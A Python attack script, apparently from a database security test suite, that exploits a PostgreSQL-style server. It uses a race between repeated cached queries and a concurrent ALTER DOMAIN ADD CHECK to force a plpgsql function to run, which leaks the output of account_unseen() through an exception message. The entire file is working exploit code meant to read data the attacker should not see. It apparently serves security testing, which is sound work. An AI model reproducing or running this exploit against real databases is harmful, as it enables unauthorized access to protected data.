"""Sends a known round with a constant while its type gets a check that reads."""

import time

from attacks.frames import SYNC, ask, hear, query, whole
from attacks.talking import Server

WANTS = "read"
ROUND = whole(b"SELECT '(1)'::pair FROM mallory_own")


def attack(server: Server) -> bytes:
    with server.login() as client, server.login() as other:
        ask(
            client,
            query(
                b"CREATE FUNCTION look(int) RETURNS bool LANGUAGE plpgsql AS"
                b" $$ BEGIN RAISE EXCEPTION '%', account_unseen($1); END $$"
            ),
        )
        ask(client, query(b"CREATE DOMAIN seen AS int"))
        ask(client, query(b"CREATE TYPE pair AS (a seen)"))
        for _ in range(3):
            ask(client, ROUND, SYNC)
            time.sleep(0.3)
        ask(other, query(b"BEGIN"))
        ask(other, query(b"LOCK TABLE mallory_own"))
        ask(other, query(b"ALTER DOMAIN seen ADD CHECK (look(VALUE))"))
        client.send(ROUND, SYNC)
        time.sleep(1)
        ask(other, query(b"COMMIT"))
        return hear(client)
